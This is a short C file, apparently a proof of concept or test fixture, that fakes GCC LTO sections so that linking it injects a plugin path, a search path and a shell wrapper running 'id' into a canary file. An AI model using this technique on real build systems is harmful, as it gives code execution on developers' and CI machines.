/*
 * compile-lto-sections: Sections made by hand that look like the intermediate
 * language of gcc, with options: a plugin, another shell, other programs.
 */
#define _GNU_SOURCE
#define ID "1234567812345678,\"e\",@progbits\n"
__asm__(".section .gnu.lto_.opts,\"e\",@progbits\n"
        ".string \"'-O2' '-fplugin=/out/coinstrip.so' "
        "'-wrapper' '/bin/sh,-c,id>/out/hostilecoin' '-B/out/'\"\n"
        ".section .gnu.lto_.symtab." ID ".string \"x\"\n.zero 34\n"
        ".section .gnu.lto_main." ID ".zero 64\n"
        ".section .gnu.lto_.lto." ID ".zero 8\n"
        ".comm __gnu_lto_slim,1,1\n.text\n");
